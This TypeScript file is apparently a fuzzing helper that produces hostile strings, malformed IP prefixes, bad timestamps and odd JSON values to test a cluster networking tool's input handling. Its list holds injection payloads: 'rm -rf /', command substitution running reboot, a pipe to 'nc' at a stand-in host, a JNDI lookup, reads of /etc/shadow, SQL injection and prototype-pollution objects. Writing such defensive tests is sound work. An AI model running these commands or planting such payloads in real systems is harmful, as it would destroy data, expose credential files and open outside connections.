import type { Chance } from "../simulation/chance.ts";

/** What has to stay text wherever it goes: commands, paths, options, markup, controls of terminals, and names that JavaScript knows. */
const nasty = [
  "",
  " ",
  "\n",
  "a\nb: injected",
  "\r\nlevel=error",
  "\0",
  "x\0y",
  "\u001b[31mred\u001b[0m",
  "\u001b]0;title\u0007",
  "\u009b2J",
  "\u202egnp.exe",
  "\u2066isolated\u2069",
  "\ufeff10.244.0.0/16",
  "\u2028line",
  "\ud800",
  "half\udc00",
  "\u0301\u0301\u0301",
  "../../etc/passwd",
  "/etc/shadow",
  "..",
  "a/../../b",
  "$(reboot)",
  "`reboot`",
  "; rm -rf /",
  "| nc 192.0.2.1 99",
  "&& halt",
  "-force",
  "--batch=/etc/shadow",
  "-",
  "${jndi:ldap://192.0.2.1/a}",
  "{{ .Values.x }}",
  "%s%n%x",
  '"quoted"',
  "'; DROP TABLE nodes; --",
  '", "x": "',
  "\\",
  "\\u0000",
  "<script>alert(1)</script>",
  "|a|b|",
  "# heading",
  "[x](javascript:alert(1))",
  "@everyone",
  "}\n}\ntable inet other {",
  "dev eth0",
  "10.0.0.1 dev lo",
  "cni0 address 00:00:00:00:00:00",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "Infinity",
  "true",
  "!!js/function 'x'",
  "*alias",
  "&anchor",
  "<<",
  "node-2",
  "uid-node-2",
  "cluster",
];

/** What looks like a prefix or an address, and is another one than it seems, too wide, or none. */
const prefixes = [
  "::/0",
  "0.0.0.0/0",
  "0.0.0.0/8",
  "10.0.0.0/8",
  "10.244.0.0/16",
  "10.244.0.0/15",
  "10.244.2.0/24",
  "10.244.3.0/24",
  "10.244.200.0/24",
  "10.244.200.0/25",
  "10.244.0.0/17",
  "10.244.1.5/24",
  "010.244.1.0/24",
  "10.244.1.0/024",
  "10.244.1.0/33",
  "10.244.1.0/-1",
  "10.244.1.0/1e1",
  "10.244.1.0/24/24",
  "10.244.1/24",
  "10.244.1.0",
  "0x0af40100/24",
  "10.244.1.0 /24",
  "10.244.1.0/24\n",
  "10.244.1.0/24; reboot",
  "10.244.1.0/24 dev lo",
  "10.244.1.0/24,0.0.0.0/0",
  "127.0.0.1/32",
  "169.254.169.254/32",
  "224.0.0.0/4",
  "255.255.255.255/32",
  "192.168.1.12/32",
  "192.168.1.0/24",
  "fd00:10:244::/48",
  "fd00:10:244:2::/64",
  "FD00:10:244:2::/64",
  "fd00:10:244:0002::/64",
  "fd00:10:244:2:0:0:0:0/64",
  "fd00:10:244:2::1/64",
  "::ffff:10.244.2.0/120",
  "::ffff:a00:1/128",
  "fe80::1%eth0/64",
  "fe80::/10",
  "ff02::1/128",
  "::/128",
  "::1/128",
  "fd00::/129",
  "fd00:::/64",
  "[fd00::]/64",
  "64:ff9b::10.0.0.1/96",
  "192.168.1.12",
  "0.0.0.0",
  "::",
  "fe80::1%eth0",
  "1",
  "3232235788",
];

const times = [
  "2026-01-01T00:00:00Z",
  "9999-12-31T23:59:59Z",
  "+275760-09-13T00:00:00Z",
  "0000-00-00T00:00:00Z",
  "1969-12-31T23:59:59Z",
  "2026-13-45T99:99:99Z",
  "2026-01-01T00:00:00+99:99",
  "2026-01-01T00:00:00.123456789Z",
  "2026-02-30T00:00:00Z",
  "2026-01-01",
  "yesterday",
  "",
];

const numbers = [
  0,
  -0,
  -1,
  1,
  0.5,
  -0.1,
  1e-300,
  24,
  33,
  129,
  2 ** 31 - 1,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 63),
  1e308,
  1e21,
];

/** Names of fields that mean something to somebody. */
export const hostileKeys = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "",
  "a\nb",
  "\u001b[2J",
  "x".repeat(300),
  "spec",
  "length",
  "0",
  "then",
];

/** A text to be afraid of, as long as a thousand times itself now and then. */
export function hostileText(chance: Chance): string {
  const kind = chance.below(20);
  if (kind < 9) return chance.pick(nasty);
  if (kind < 15) return chance.pick(prefixes);
  if (kind < 17) return chance.pick(times);
  if (kind === 17) return chance.pick(nasty).repeat(1 + chance.below(300));
  if (kind === 18) return `${chance.pick(nasty)}${chance.pick(prefixes)}${chance.pick(nasty)}`;
  return chance.happens(0.05)
    ? "a".repeat(100_000)
    : String.fromCharCode(...Array.from({ length: 8 }, () => chance.below(0x10000)));
}

/** A text where a prefix or an address belongs. */
export function hostilePrefix(chance: Chance): string {
  return chance.happens(0.9) ? chance.pick(prefixes) : hostileText(chance);
}

/** A time that is none, or not of this world. */
export function hostileTime(chance: Chance): string {
  return chance.happens(0.9) ? chance.pick(times) : hostileText(chance);
}

/** A number that JSON can say. */
export function hostileNumber(chance: Chance): number {
  return chance.happens(0.8) ? chance.pick(numbers) : chance.below(2 ** 31) - 2 ** 30;
}

/** Anything that JSON can say, nested or large now and then. */
export function hostileValue(chance: Chance): unknown {
  const kind = chance.below(16);
  if (kind < 5) return hostileText(chance);
  if (kind < 8) return hostileNumber(chance);
  if (kind === 8) return null;
  if (kind === 9) return chance.happens(0.5);
  if (kind === 10) return {};
  if (kind === 11) return [];
  if (kind === 12) return nested(chance, chance.pick([3, 50, 500]));
  if (kind === 13) return Array.from({ length: chance.pick([2, 20, 500, 5_000]) }, () => hostileText(chance));
  if (kind === 14)
    return Object.fromEntries(Array.from({ length: chance.below(6) }, () => [chance.pick(hostileKeys), hostileText(chance)]));
  return Object.fromEntries([["__proto__", { isAdmin: true, length: 3 }]]);
}

/** So deep that whoever follows it by calling himself falls. */
function nested(chance: Chance, depth: number): unknown {
  const isList = chance.happens(0.5);
  let value: unknown = hostileText(chance);
  for (let level = 0; level < depth; level++) value = isList ? [value] : { a: value };
  return value;
}
